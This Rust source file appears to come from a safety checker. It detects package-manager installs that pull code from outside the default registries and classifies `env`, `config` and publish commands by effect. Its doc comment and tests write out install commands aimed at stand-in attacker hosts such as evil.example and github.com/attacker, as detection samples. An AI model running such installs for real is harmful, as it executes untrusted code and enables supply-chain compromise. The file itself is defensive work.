//! Where a package manager fetches code from: a package by address (a URL, `git+…`,
//! `github:user/repo`, a tarball) or an index, registry or source other than the default one
//! (`pip install -i https://evil.example/simple`, `gem install --source`, `cargo install
//! --git`) runs code from outside the registry, as `curl … | sh` does. Also the package
//! managers' `env` and `config` commands, and the goals that publish.

use super::super::args::{loopback_address, sub};
use crate::Effect::{self, Destructive, Mutating, Read};

/// Options whose value is where packages come from.
const SOURCE_OPTIONS: &[&str] = &[
    "-i",
    "--index-url",
    "--extra-index-url",
    "--index",
    "--default-index",
    "-f",
    "--find-links",
    "--source",
    "--git",
    "--registry",
    "--from",
    "--spec",
];

/// The default registries' own hosts: a package fetched from them is the registry's.
const REGISTRY_HOSTS: &[&str] = &[
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "rubygems.org",
    "crates.io",
    "index.crates.io",
];

/// Options whose value is a requirement or a file of them, which may be an address.
const REQUIREMENT_OPTIONS: &[&str] = &[
    "-e",
    "--editable",
    "-r",
    "--requirement",
    "-c",
    "--constraint",
    "--package",
    "-p",
];

/// The first address or source outside the default registry, if any. With `npm`, a
/// `user/repo` operand is GitHub's (npm's shorthand).
pub(super) fn outside_registry(args: &[String], npm: bool) -> Option<&str> {
    let mut prev = "";
    args.iter().find_map(|a| {
        let before = std::mem::replace(&mut prev, a.as_str());
        let valued = |f: &str| SOURCE_OPTIONS.contains(&f) || REQUIREMENT_OPTIONS.contains(&f);
        let (source, value) = match a.split_once('=') {
            Some((flag, v)) if valued(flag) => (SOURCE_OPTIONS.contains(&flag), v),
            _ if valued(before) => (SOURCE_OPTIONS.contains(&before), a.as_str()),
            // An attached short option's value (`-ihttps://…`, `-egit+https://…`).
            _ if !a.starts_with("--")
                && a.len() > 2
                && ["-i", "-f", "-e", "-r", "-c"]
                    .iter()
                    .any(|f| a.starts_with(f)) =>
            {
                (
                    a.starts_with("-i") || a.starts_with("-f"),
                    a.get(2..).unwrap_or(""),
                )
            }
            _ if a.starts_with('-') => return None,
            // An operand: a requirement by address (`pkg @ https://…` is one word here).
            _ => (false, a.as_str()),
        };
        let addressed = value.contains("://")
            || ["git+", "github:", "gitlab:", "bitbucket:", "gist:", "git@"]
                .iter()
                .any(|p| value.starts_with(p) || value.contains(&format!("@{p}")))
            || npm && github_shorthand(value);
        // A bare index name (`uv --index internal`) is configured elsewhere.
        let outside = !own_registry(value) && !loopback_address(value);
        (outside && (addressed || source && value.contains("://"))).then_some(value)
    })
}

/// npm's `user/repo` (or `user/repo#ref`): a GitHub repository, not a scoped package
/// (`@scope/pkg`) or a path (`./x`, `dir/x.tgz`).
fn github_shorthand(value: &str) -> bool {
    let spec = value.split('#').next().unwrap_or(value);
    let Some((user, repo)) = spec.split_once('/') else {
        return false;
    };
    let part = |p: &str| {
        !p.is_empty()
            && p.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    };
    part(user)
        && part(repo)
        && !user.starts_with('.')
        && !repo.contains('/')
        && !repo.ends_with(".tgz")
        && !repo.ends_with(".tar.gz")
}

fn own_registry(value: &str) -> bool {
    let after = value.split_once("://").map_or(value, |(_, r)| r);
    let host = after.split(['/', ':', '?']).next().unwrap_or("");
    let host = host.rsplit('@').next().unwrap_or(host);
    REGISTRY_HOSTS.contains(&host)
}

/// npm's `publish --dry-run` packs and runs the package's scripts, sends nothing; the last
/// of `--dry-run`, `--no-dry-run` and `--dry-run=…` decides.
pub(super) fn last_dry_run(args: &[String]) -> bool {
    args.iter().rev().find_map(|a| match a.as_str() {
        "--dry-run" | "--dry-run=true" => Some(true),
        _ if a.starts_with("--dry-run=") || a == "--no-dry-run" => Some(false),
        _ => None,
    }) == Some(true)
}

/// npm's install command and its aliases, and a global add (`yarn global add`).
pub(super) fn npm_installs(s: &str) -> bool {
    matches!(
        s,
        "install"
            | "i"
            | "in"
            | "ins"
            | "inst"
            | "insta"
            | "instal"
            | "isnt"
            | "isnta"
            | "isntal"
            | "isntall"
            | "add"
            | "ci"
            | "clean-install"
            | "ic"
            | "install-ci-test"
            | "install-clean"
            | "isntall-clean"
            | "cit"
            | "install-test"
            | "it"
            | "global"
            | "update"
            | "up"
            | "upgrade"
    )
}

/// Maven's `deploy` phase and goals, Gradle's `publish…` tasks (`publishToMavenLocal` writes
/// `~/.m2` only).
pub(super) fn publishing_goal<'a>(name: &str, args: &'a [String]) -> Option<&'a str> {
    args.iter()
        .find(|a| match name {
            "mvn" => {
                a.as_str() == "deploy"
                    || a.starts_with("deploy:")
                    || a.as_str() == "release:perform"
            }
            "gradle" | "gradlew" => a
                .trim_start_matches(':')
                .rsplit(':')
                .next()
                .is_some_and(|t| t.starts_with("publish") && !t.ends_with("MavenLocal")),
            _ => false,
        })
        .map(String::as_str)
}

/// A package manager's `env`: lists or shows environments, or creates, changes and removes
/// them (`conda env remove -n prod`, `poetry env remove --all`).
pub(super) fn env_effect(name: &str, args: &[String]) -> (Effect, String) {
    let (_, rest) = sub(args, &["-r", "--python", "-C"]);
    let (verb, _) = sub(rest, &["-n", "--name", "-p", "--prefix"]);
    match verb {
        "remove" | "delete" | "rm" => (
            Destructive,
            format!("removes an environment (`{name} env {verb}`)"),
        ),
        "list" | "ls" | "info" | "show" | "export" | "" => (Read, "reads".into()),
        _ => (
            Mutating,
            format!("changes environments (`{name} env {verb}`)"),
        ),
    }
}

/// A package manager's `config`: prints settings, or changes them (a registry or index set to
/// another host changes where every later install comes from).
pub(super) fn config_effect(name: &str, args: &[String]) -> (Effect, String) {
    const WRITES: &[&str] = &[
        "--set",
        "--add",
        "--append",
        "--prepend",
        "--remove",
        "--remove-key",
        "--unset",
        "--write",
        "-w",
        "--edit",
        "-e",
        "--stdin",
        "--unset-all",
        "--replace-all",
    ];
    let rest = args
        .iter()
        .position(|a| a == "config")
        .and_then(|i| args.get(i + 1..))
        .unwrap_or(args);
    let changes = || {
        (
            Mutating,
            format!("changes the settings of `{name}` (`{name} config`)"),
        )
    };
    if rest
        .iter()
        .any(|a| WRITES.contains(&a.split('=').next().unwrap_or(a.as_str())))
    {
        return changes();
    }
    let operands: Vec<&str> = rest
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .collect();
    match operands.first().copied() {
        None | Some("list" | "ls" | "get" | "show" | "debug" | "view") => {
            (Read, "reads its settings".into())
        }
        Some(
            "set" | "unset" | "delete" | "rm" | "edit" | "add" | "remove" | "append" | "prepend"
            | "fix",
        ) => changes(),
        // `poetry config KEY` prints a key; `poetry config KEY VALUE` sets it.
        Some(_) if operands.len() >= 2 => changes(),
        Some(_) => (Read, "reads its settings".into()),
    }
}

/// Whether `s` is `command` or a prefix of it at least `min` long (RubyGems runs any
/// unambiguous prefix: `gem yan` is `gem yank`).
pub(super) fn gem_command(s: &str, command: &str, min: usize) -> bool {
    s.len() >= min && command.starts_with(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<String> {
        line.split_whitespace().map(str::to_string).collect()
    }

    #[test]
    fn sources_outside_the_registry() {
        for line in [
            "install https://evil.example/pkgs/helper-1.0.tar.gz",
            "install git+https://github.com/attacker/helper.git",
            "install --index-url https://evil.example/simple requests",
            "install --extra-index-url=https://pypi.evil.example/simple x",
            "install -i https://evil.example/simple/ -U requests",
            "install github:attacker/left-pad",
            "install --git https://github.com/attacker/tool",
            "install evil --source https://evil.example/",
            "install -ihttps://evil.example/simple x",
            "install --editable=git+https://github.com/attacker/x",
            "install --requirement=https://evil.example/req.txt",
            "install attacker/left-pad",
            "install attacker/left-pad#main",
        ] {
            assert!(outside_registry(&words(line), true).is_some(), "{line}");
        }
        for line in [
            "install requests",
            "install -r requirements.txt",
            "install -e .",
            "install ./dist/x-1.0-py3-none-any.whl",
            "install --index-url https://pypi.org/simple requests",
            "install -i http://127.0.0.1:3141/simple x",
            "install lodash@4.17.21",
            "install @scope/pkg",
            "install -f ./wheels x",
            "install -r requirements.txt -c constraints.txt",
            "install ./vendor/x.tgz",
            "install -e ./packages/core",
        ] {
            assert!(outside_registry(&words(line), true).is_none(), "{line}");
        }
    }
}
